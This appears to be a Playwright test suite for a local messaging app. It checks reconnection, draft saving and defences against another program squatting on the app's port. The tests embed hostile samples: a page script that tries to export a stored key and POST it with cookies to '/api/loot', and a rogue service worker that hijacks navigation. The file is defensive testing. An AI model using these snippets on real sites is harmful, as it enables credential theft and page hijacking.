// Reconnecting: the app stops, comes back, or is replaced by another program at its address. What was typed stays,
// and the other program learns nothing.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

import { expect, introduce, type Member, test } from "./fixture";
import { reply, texts, thread } from "./writing";

interface Loot {
  /** What it answers at some addresses. */
  scripts?: Record<string, string>;
  /** Whether browsers are to keep its answers for good. */
  keep?: boolean;
}

/** A program at the app's address that answers everything and keeps what it hears. */
class Squatter {
  readonly heard: { line: string; headers: Record<string, unknown>; body: string }[] = [];
  #server: Server;

  private constructor(page: string, { scripts = {}, keep = false }: Loot) {
    this.#server = createServer((request, response) => {
      let body = "";
      request.on("data", (bytes: Buffer) => (body += bytes.toString()));
      request.on("end", () => {
        this.heard.push({ line: `${request.method} ${request.url}`, headers: request.headers, body });
        const script = scripts[request.url ?? ""];
        if (keep) response.setHeader("cache-control", "max-age=31536000, immutable");
        if (script !== undefined) {
          response.setHeader("content-type", "text/javascript");
          response.setHeader("service-worker-allowed", "/");
          return response.end(script);
        }
        const html = request.method === "GET" && !request.url?.startsWith("/api");
        response.setHeader("content-type", html ? "text/html" : "application/json");
        response.end(html ? page : JSON.stringify({ ok: { nonce: "A".repeat(43), proof: "A".repeat(43), page: "A", files: "A", pages: "A" } }));
      });
    });
  }

  static async at(port: number, page = "", loot: Loot = {}): Promise<Squatter> {
    const squatter = new Squatter(page, loot);
    await new Promise<void>((done) => squatter.#server.listen(port, "127.0.0.1", done));
    return squatter;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((done) => this.#server.close(done));
  }
}

const port = (member: Member): number => Number(new URL(member.page.url()).port);

test("more than six tabs share one event stream, and each gets every event", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  const boris = await (await member("Boris")).join(club);
  await introduce(anna, boris);
  const tabs = [anna.page];
  while (tabs.length < 9) {
    const tab = await anna.page.context().newPage();
    await tab.goto(anna.origin);
    await expect(tab.getByText("No letters yet")).toBeVisible();
    tabs.push(tab);
  }
  // One goes, one crashes.
  await tabs[0]?.close();
  const crash = await tabs[1]?.context().newCDPSession(tabs[1]);
  void crash?.send("Page.crash").catch(() => undefined);
  await boris.run("send", "--to", anna.alias, "--subject", "To every tab", "Hello");
  for (const tab of tabs.slice(2)) await expect(tab.getByRole("link", { name: /To every tab/ })).toBeVisible();
  anna.page = tabs[2] ?? anna.page;
});

test("typing while the app is down is saved after the reconnect", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  anna.forgive(/ERR_CONNECTION_REFUSED|ERR_CONNECTION_RESET|ERR_INCOMPLETE_CHUNKED|ERR_EMPTY_RESPONSE|status of 401/);
  const { page } = anna;
  await expect(page.getByText("No letters yet")).toBeVisible();
  await page.keyboard.press("c");
  await page.getByLabel("Subject").fill("Before");
  await page.getByRole("textbox", { name: "Letter" }).fill("Written before. ");
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await anna.stopApp();
  await expect(page.getByRole("alert").first()).toContainText("isn’t answering");
  await page.getByRole("textbox", { name: "Letter" }).focus();
  await page.keyboard.press("Control+End");
  await page.keyboard.type("Written while it was away.");
  await expect(page.getByText("Not saved yet")).toBeVisible();
  await expect(page.getByRole("textbox", { name: "Letter" })).toHaveValue("Written before. Written while it was away.");

  await anna.startApp();
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await expect(page.getByRole("textbox", { name: "Letter" })).toHaveValue("Written before. Written while it was away.");
  const drafts = (await anna.run("drafts")) as { text: string }[];
  expect(drafts.map((draft) => draft.text)).toEqual(["Written before. Written while it was away."]);

  // A bookmark works, until the browser is shut out.
  const bookmark = await page.context().newPage();
  await bookmark.goto(anna.origin);
  await expect(bookmark.getByRole("link", { name: /^Drafts/ })).toBeVisible();
  const browsers = (await anna.run("browsers")) as { id: number }[];
  expect(browsers).toHaveLength(1);
  // The one that is used is marked, and asks before it shuts itself out.
  await bookmark.goto(`${anna.origin}/#/1/service`);
  const own = bookmark.getByRole("listitem").filter({ hasText: "This browser" });
  await own.getByRole("button", { name: /^Shut out/ }).click();
  await expect(own.getByRole("alert")).toContainText("You are using it.");
  await own.getByRole("button", { name: "Keep it" }).click();
  await expect(own.getByRole("alert")).toHaveCount(0);
  await anna.run("browsers", "--revoke", String(browsers[0]?.id));
  await bookmark.reload();
  await expect(bookmark.getByRole("heading", { name: "This browser was not let in" })).toBeVisible();
  await expect(page.getByRole("alert").first()).toContainText("does not know this browser");
  // The next opening lets it in again, and the page that was left open goes on.
  const { url } = (await anna.run("url")) as { url: string };
  await bookmark.goto(url);
  await expect(bookmark.getByRole("link", { name: /^Drafts/ })).toBeVisible();
  expect(bookmark.url()).not.toContain("token");
  await expect(page.getByRole("alert")).toHaveCount(0);
});

test("state of a held letter is shown again after the app was killed and restarted", async ({ club, member }) => {
  const { anna, boris } = await thread(club, member);
  anna.forgive(/ERR_/);
  const { page } = anna;
  const bar = page.locator(".undo-bar");
  await reply(page).fill("Held while it was killed");
  await page.keyboard.press("Control+Enter");
  await expect(bar.getByRole("button", { name: "Undo" })).toBeVisible();
  const sent_ms = Date.now();
  await anna.killApp();
  await expect(bar).toContainText("it leaves once the app is back");
  await expect(bar.getByRole("button", { name: "Undo" })).toBeHidden();
  // Elsewhere, and past the time at which it leaves.
  await page.getByRole("link", { name: /^Pings/ }).click();
  await expect.poll(() => Date.now() - sent_ms, { timeout: 10_000 }).toBeGreaterThan(5000);
  await anna.startApp();
  await expect(page.getByText("isn’t answering")).toHaveCount(0);
  await boris.page.getByRole("link", { name: /Plans/ }).click();
  await expect(texts(boris.page)).toHaveText(["Shall we?", "Held while it was killed"]);
  await expect(bar).toHaveCount(0);
});

test("nothing is shown as connected or online while the app is down", async ({ club, member }) => {
  const { anna, boris } = await thread(club, member);
  anna.forgive(/ERR_/);
  await boris.run("presence", "on");
  const { page } = anna;
  await page.getByRole("link", { name: /^People/ }).click();
  await page.getByRole("link", { name: boris.alias }).click();
  await expect(page.locator(".list-pane .sub, main .presence")).toHaveText(["Online", "Online"]);
  const rail = page.getByRole("navigation", { name: "Services" }).getByRole("link", { name: /Test Club/ });
  await expect(rail).toHaveAccessibleName("Test Club, Connected");
  await anna.stopApp();
  await expect(rail).toHaveAccessibleName("Test Club, The app is away");
  await expect(page.locator(".list-pane .state")).toContainText("The app is away");
  await expect(page.locator(".list-pane .sub, main .presence")).toHaveText(["Not seen online", "Not seen online"]);
  await page.getByRole("link", { name: /About this service/ }).click();
  await expect(page.locator("main .state")).toHaveText("The app is away");
  await expect(page.getByText("Connected")).toHaveCount(0);
  await anna.startApp();
  await expect(rail).toHaveAccessibleName("Test Club, Connected");
});

test("app that hangs is treated as down", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  anna.forgive(/ERR_/);
  const { page } = anna;
  // Without a shared worker the stream has the clock of the page.
  await page.addInitScript("delete globalThis.SharedWorker");
  await page.clock.install();
  await page.goto(anna.origin);
  await expect(page.getByText("No letters yet")).toBeVisible();
  // It says a word every few seconds, so a while alone proves nothing.
  anna.haltApp(true);
  await page.clock.fastForward(60_000);
  await expect(page.getByText("isn’t answering")).toBeVisible();
  anna.haltApp(false);
  await page.clock.fastForward(60_000);
  await expect(page.getByText("isn’t answering")).toHaveCount(0);
});

test("another program at the app's address gets no secret, and nothing that it could use later", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  anna.forgive(/ERR_|status of 401/);
  const { page } = anna;
  await expect(page.getByText("No letters yet")).toBeVisible();
  await page.keyboard.press("c");
  await page.getByLabel("Subject").fill("Secret subject");
  await page.getByRole("textbox", { name: "Letter" }).fill("Secret words");
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await anna.stopApp();
  await expect(page.getByRole("alert").first()).toContainText("isn’t answering");
  const squatter = await Squatter.at(port(anna));
  await page.getByRole("textbox", { name: "Letter" }).fill("More secret words");
  await expect(page.getByRole("alert").first()).toContainText("Another program answers");
  await expect(page.getByRole("textbox", { name: "Letter" })).toHaveValue("More secret words");
  const { heard } = squatter;
  expect(new Set(heard.map(({ line }) => line))).toEqual(new Set(["POST /api/browser/hello"]));
  for (const { headers, body } of heard) {
    expect(Object.keys(JSON.parse(body) as object).sort()).toEqual(["browser", "nonce"]);
    expect(headers["cookie"]).toBeUndefined();
    expect(headers["authorization"]).toBeUndefined();
    expect(JSON.stringify(headers)).not.toContain("ecret");
  }
  await squatter.stop();

  // A page of its own at our address can't read the key out of the browser.
  const thief = await Squatter.at(
    port(anna),
    `<script>
      const opening = indexedDB.open("mnm", 1);
      opening.onsuccess = () => {
        const reading = opening.result.transaction("identity").objectStore("identity").get("me");
        reading.onsuccess = () => crypto.subtle.exportKey("raw", reading.result.key).then(() => "taken", (error) => error.name)
          .then((how) => fetch("/api/loot", { method: "POST", body: how + document.cookie + Object.keys(localStorage).filter((key) => !key.startsWith("mnm.")) }));
      };
    </script>`,
  );
  const trap = await page.context().newPage();
  await trap.goto(anna.origin);
  await expect.poll(() => thief.heard.find(({ line }) => line.endsWith("/api/loot"))?.body).toBe("InvalidAccessError");
  await trap.close();
  await thief.stop();

  await anna.startApp();
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await expect(page.getByRole("alert")).toHaveCount(0);
  for (const { line, body } of heard) {
    const [, path] = line.split(" ");
    const again = await fetch(`${anna.origin}${path}`, { method: "POST", headers: { origin: anna.origin, "content-type": "application/json" }, body });
    // The app proves itself to whoever asks; nothing more comes of it.
    expect(Object.keys(((await again.json()) as { ok: object }).ok).sort()).toEqual(["nonce", "proof"]);
  }
});

const FOREIGN = "<title>Foreign</title><h1>Another program's page</h1>";

for (const script of ["/sw.js", "/assets/deep/sw.js"]) {
  test(`service worker that another program left at ${script} is removed once the app is back`, async ({ club, member }) => {
    const anna = await (await member("Anna")).join(club);
    anna.forgive(/ERR_|status of 40[14]/);
    const { page } = anna;
    await expect(page.getByText("No letters yet")).toBeVisible();
    await page.goto("about:blank");
    await anna.stopApp();
    const squatter = await Squatter.at(
      Number(new URL(anna.origin).port),
      `${FOREIGN}<script>navigator.serviceWorker.register("${script}", { scope: "/" })</script>`,
      {
        scripts: {
          [script]: `
            addEventListener("install", () => skipWaiting());
            addEventListener("activate", (event) => event.waitUntil(clients.claim()));
            addEventListener("fetch", (event) => {
              if (event.request.mode === "navigate") event.respondWith(new Response(${JSON.stringify(FOREIGN)}, { headers: { "content-type": "text/html" } }));
            });`,
        },
      },
    );
    await page.goto(anna.origin);
    await page.evaluate("navigator.serviceWorker.ready.then(() => undefined)");
    await expect.poll(() => page.evaluate("Boolean(navigator.serviceWorker.controller)")).toBe(true);
    await squatter.stop();

    await anna.startApp();
    // The worker answers once more; its page is replaced.
    await page.goto(anna.origin);
    await expect(page.getByText("No letters yet")).toBeVisible();
    await page.goto(anna.origin);
    await expect(page.getByText("No letters yet")).toBeVisible();
    expect(await page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)")).toBe(0);
    expect(await page.evaluate("Boolean(navigator.serviceWorker.controller)")).toBe(false);
  });
}

test("page sends no request through a foreign service worker", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  anna.forgive(/ERR_|status of 40[14]/);
  const { page } = anna;
  await expect(page.getByText("No letters yet")).toBeVisible();
  await page.goto("about:blank");
  await anna.stopApp();
  const squatter = await Squatter.at(Number(new URL(anna.origin).port), `${FOREIGN}<script>navigator.serviceWorker.register("/sw.js")</script>`, {
    scripts: { "/sw.js": 'addEventListener("fetch", (event) => event.respondWith(fetch(event.request)));' },
  });
  await page.goto(anna.origin);
  await page.evaluate("navigator.serviceWorker.ready.then(() => undefined)");
  await squatter.stop();

  await anna.startApp();
  await page.addInitScript(`
    const real = fetch;
    globalThis.fetch = (path, init) => {
      if (navigator.serviceWorker.controller) localStorage.setItem("through", path);
      return real(path, init);
    };`);
  const { url } = (await anna.run("url")) as { url: string };
  await page.goto(url);
  await expect(page.getByText("No letters yet")).toBeVisible();
  expect(await page.evaluate("localStorage.getItem('through')")).toBeNull();
  expect(page.url()).not.toContain("token");
});

test("site data of another program's page is cleared once the app is opened", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  anna.forgive(/ERR_|status of 40[14]/);
  const { page } = anna;
  await expect(page.getByText("No letters yet")).toBeVisible();
  const own = new URL((await page.locator("script[src]").first().getAttribute("src")) ?? "", anna.origin).pathname;
  await page.goto("about:blank");
  await anna.stopApp();
  const squatter = await Squatter.at(Number(new URL(anna.origin).port), `${FOREIGN}<script type="module" crossorigin src="${own}"></script>`, {
    scripts: { [own]: "document.body.append('Foreign script')" },
    keep: true,
  });
  await page.goto(anna.origin);
  await expect(page.getByText("Foreign script")).toBeVisible();
  await squatter.stop();

  await anna.startApp();
  const { url } = (await anna.run("url")) as { url: string };
  await page.goto(url);
  await expect(page.getByText("No letters yet")).toBeVisible();
  await page.goto("about:blank");
  await page.goto(anna.origin);
  await expect(page.getByText("No letters yet")).toBeVisible();
  await expect(page.getByText("Foreign script")).toHaveCount(0);
});

test("other ports of this machine get no cookie or secret", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  await expect(anna.page.getByText("No letters yet")).toBeVisible();
  const neighbour = await Squatter.at(0, "<p>hello</p>");
  const elsewhere = `http://127.0.0.1:${neighbour.port}`;
  anna.allow(elsewhere);
  const tab = await anna.page.context().newPage();
  await tab.goto(elsewhere);
  expect(neighbour.heard.length).toBeGreaterThan(0);
  for (const { headers } of neighbour.heard) expect(headers["cookie"]).toBeUndefined();
  await tab.close();
  await neighbour.stop();
});

test("outdated pages reload once nothing is unsaved", async ({ club, member }) => {
  const anna = await (await member("Anna")).join(club);
  anna.forgive(/ERR_|status of 401/);
  // Without a shared worker a page has a stream of its own.
  await anna.page.addInitScript("delete globalThis.SharedWorker");
  // The app's answer, with the mark of other pages from the second run on.
  let run = 0;
  await anna.page.route("**/api/browser/enter", async (route) => {
    const response = await route.fetch().catch(() => null);
    const body = await response?.text().catch(() => null);
    // The page may have gone on meanwhile.
    if (!response || !body) return;
    const answer = JSON.parse(body) as { ok: { pages: string } };
    if (run > 0) answer.ok.pages = `other ${run}`;
    await route.fulfill({ response, json: answer }).catch(() => undefined);
  });
  await anna.page.goto(anna.origin);
  await expect(anna.page.getByText("No letters yet")).toBeVisible();
  await anna.page.evaluate("globalThis.sameAsBefore = true");
  await anna.page.keyboard.press("p");
  await anna.page.getByLabel("A few words").fill("Half a ping");
  run = 1;
  await anna.stopApp();
  await anna.startApp();
  await expect(anna.page.getByText("mnm was replaced by another version")).toBeVisible();
  await expect(anna.page.getByLabel("A few words")).toHaveValue("Half a ping");
  expect(await anna.page.evaluate("globalThis.sameAsBefore")).toBe(true);
  await anna.page.getByLabel("A few words").fill("");
  await expect.poll(() => anna.page.evaluate("globalThis.sameAsBefore").catch(() => true)).toBeUndefined();
  await expect(anna.page.getByText("No answer yet").or(anna.page.getByLabel("A few words")).first()).toBeVisible();
  await expect(anna.page.getByText("mnm was replaced by another version")).toBeHidden();
  // A page that loads anew leaves answers behind that nobody waits for.
  await anna.page.unrouteAll({ behavior: "ignoreErrors" });
});
